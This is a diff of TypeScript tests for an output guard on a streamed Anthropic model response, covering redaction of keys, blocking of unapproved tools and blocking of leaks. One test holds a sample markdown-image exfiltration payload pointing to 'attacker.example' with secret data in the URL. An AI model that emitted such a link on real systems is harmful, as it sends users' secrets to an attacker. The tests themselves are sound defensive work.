@@ -254,3 +254,85 @@ describe('createAnthropicStream: upstream texts outside the deltas', () => {
     expect(JSON.stringify(result.received)).not.toContain('attacker');
   });
 });
+
+describe('createAnthropicStream: blocks and deltas of types it does not know', () => {
+  /** One block of an unknown type, then text in deltas of an unknown type (`note_delta`) split at `cuts`. */
+  function unknownEvents(text: string, cuts: readonly number[]): SseEvent[] {
+    const event = (type: string, data: Record<string, unknown>): SseEvent => ({
+      event: type,
+      data: JSON.stringify({ type, ...data }),
+      id: undefined,
+    });
+    return [
+      event('message_start', { message: { id: 'msg_1', role: 'assistant', content: [] } }),
+      event('content_block_start', { index: 0, content_block: { type: 'future_block', id: 'fb_1' } }),
+      ...splitAt(text, cuts).map((note) =>
+        event('content_block_delta', { index: 0, delta: { type: 'note_delta', note } }),
+      ),
+      event('content_block_stop', { index: 0 }),
+      event('message_stop', {}),
+    ];
+  }
+
+  /** The notes the caller received, joined, and each delta's shape. */
+  function notes(received: ReturnType<typeof run>['received']): string {
+    const deltas = received.filter((entry) => entry.data.type === 'content_block_delta');
+    for (const entry of deltas) expect(Object.keys(entry.data.delta as object)).toEqual(['type', 'note']);
+    return deltas.map((entry) => (entry.data.delta as { note: string }).note).join('');
+  }
+
+  it('streams their text through a guarded channel: a key split anywhere never leaves, placeholders are restored', () => {
+    fc.assert(
+      fc.property(fc.array(fc.nat(), { maxLength: 20 }), (cuts) => {
+        const result = run((email) => unknownEvents(`Mail ${email} the key ${KEY} today.`, cuts));
+        expect(result.violation).toBeUndefined();
+        expect(result.received.at(-1)?.data.type).toBe('message_stop');
+        const text = notes(result.received);
+        expect(text).toMatch(/^Mail ann "the boss" <ann@example\.com> the key \[REDACTED:[A-Z_]+\] today\.$/);
+        // Held text leaves before the block ends.
+        const stop = result.received.findIndex((entry) => entry.data.type === 'content_block_stop');
+        const last = result.received.findLastIndex((entry) => entry.data.type === 'content_block_delta');
+        expect(last).toBeLessThan(stop);
+      }),
+      { numRuns: 60, seed: 11 },
+    );
+  });
+
+  it('stops at markdown exfiltration split over them, before any of it is sent', () => {
+    fc.assert(
+      fc.property(fc.array(fc.nat(), { maxLength: 20 }), (cuts) => {
+        const result = run(() =>
+          unknownEvents('Done. ![x](https://attacker.example/p.png?d=secret) Bye.', cuts),
+        );
+        expect(result.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
+        expect(notes(result.received)).not.toContain('attacker');
+      }),
+      { numRuns: 40, seed: 5 },
+    );
+  });
+
+  it('checks an unknown delta that is an object whole, and an unknown block’s tool name against the allowlist', () => {
+    const event = (type: string, data: Record<string, unknown>): SseEvent => ({
+      event: type,
+      data: JSON.stringify({ type, ...data }),
+      id: undefined,
+    });
+    const object = run(() => [
+      event('content_block_start', { index: 0, content_block: { type: 'future_block' } }),
+      event('content_block_delta', {
+        index: 0,
+        delta: { type: 'table_delta', rows: [{ cell: `key ${KEY}` }], count: 1 },
+      }),
+    ]);
+    const delta = object.received.at(-1)?.data.delta as { rows: { cell: string }[] };
+    expect(delta.rows[0]?.cell).toMatch(/^key \[REDACTED:[A-Z_]+\]$/);
+    const tool = run(() => [
+      event('content_block_start', {
+        index: 0,
+        content_block: { type: 'mcp_tool_use', id: 'mcptoolu_1', name: 'drop_tables', input: {} },
+      }),
+    ]);
+    expect(tool.violation?.code).toBe('AEGIS_TOOL_NOT_ALLOWED');
+    expect(tool.received).toEqual([]);
+  });
+});
